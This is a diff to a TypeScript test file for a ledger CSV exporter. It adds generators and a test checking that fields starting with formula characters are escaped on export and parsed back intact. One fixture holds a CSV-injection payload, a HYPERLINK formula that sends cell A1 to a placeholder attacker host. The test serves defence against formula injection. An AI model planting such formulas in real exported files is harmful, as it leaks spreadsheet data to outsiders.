@@ -4,7 +4,12 @@ import { canonicalAmount } from '../stores/amount-codec.js';
 import type { ChargeRecord, PaymentRecord } from '../stores/records.js';
 import { chargesToCsv, parseChargesCsv, parsePaymentsCsv, paymentsToCsv } from './ledger-csv.js';
 
-const text = fc.string({ unit: 'binary', maxLength: 20 }).filter((s) => !s.includes('\0'));
+const anyText = fc.string({ unit: 'binary', maxLength: 20 }).filter((s) => !s.includes('\0'));
+// Often starting like a spreadsheet formula, or with the guard's own quote.
+const text = fc.oneof(
+  anyText,
+  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), anyText).map(([a, b]) => a + b),
+);
 const time = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true });
 const amount = fc
   .tuple(fc.bigInt({ min: 0n, max: 10n ** 12n }), fc.integer({ min: 0, max: 999_999 }))
@@ -62,6 +67,25 @@ describe('ledger CSV', () => {
     expect(csv).toBe(
       'id,time,account,kind,type,amount,currency,linked_to,comment,operator\r\n' +
         'p1,2026-01-08T10:00:00.000+08:00,chem,payment,"bank, ""wire""",12.50,CNY,,"",fin\r\n',
+    );
+    expect(parsePaymentsCsv(csv)).toEqual([p]);
+  });
+
+  it('writes text that a spreadsheet would run as a formula as plain text, and reads it back unchanged', () => {
+    const p: PaymentRecord = {
+      id: 'p1',
+      account: 'chem',
+      kind: 'payment',
+      type: '@SUM(A1:A9)',
+      amount: '1.00',
+      currency: 'CNY',
+      time: new Date('2026-01-08T02:00:00Z'),
+      comment: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      operator: "'quoted",
+    };
+    const csv = paymentsToCsv([p]);
+    expect(csv.split('\r\n')[1]).toBe(
+      `p1,2026-01-08T02:00:00.000+00:00,chem,payment,'@SUM(A1:A9),1.00,CNY,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",''quoted`,
     );
     expect(parsePaymentsCsv(csv)).toEqual([p]);
   });
